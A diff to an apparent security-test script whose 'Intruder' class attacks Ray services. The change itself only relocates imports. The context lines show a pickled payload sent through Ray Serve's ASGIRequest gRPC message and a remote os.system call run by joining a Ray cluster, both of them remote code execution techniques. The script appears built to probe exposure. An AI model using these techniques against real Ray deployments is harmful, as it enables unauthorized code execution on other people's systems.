@@ -7,6 +7,7 @@ file with its name in ``folder``.
 
 from __future__ import annotations
 
+import importlib
 import json
 import os
 import pickle
@@ -20,8 +21,6 @@ from typing import Any
 
 import grpc
 import httpx
-import ray
-from ray.serve.generated.serve_pb2 import ASGIRequest
 
 HOST = "127.0.0.1"
 PATIENCE_S = 5
@@ -88,6 +87,8 @@ class Intruder:
         return self._grpc(port, method, b"")
 
     def serve(self, port: int, method: str) -> str:
+        from ray.serve.generated.serve_pb2 import ASGIRequest
+
         payload = pickle.dumps(Payload(self.write(f"{port}{method.replace('/', '-')}")))
         request = ASGIRequest(
             pickled_request_metadata=payload, request_args=payload, request_kwargs=payload
@@ -106,6 +107,8 @@ class Intruder:
 
     def driver(self, address: str) -> str:
         """Join the engine's Ray, and run a task there."""
+        import ray
+
         try:
             ray.init(address=address, log_to_driver=False)
             ray.get(ray.remote(os.system).remote(self.write("driver")))
@@ -133,6 +136,7 @@ def become(name: str) -> None:
 
 def main() -> None:
     told = json.load(sys.stdin)
+    importlib.import_module("ray.serve.generated.serve_pb2")
     become(told["user"])
     intruder = Intruder(Path(told["folder"]), told["token"])
     attempts: dict[str, tuple[Callable[[int, str], str], tuple[str, ...]]] = {
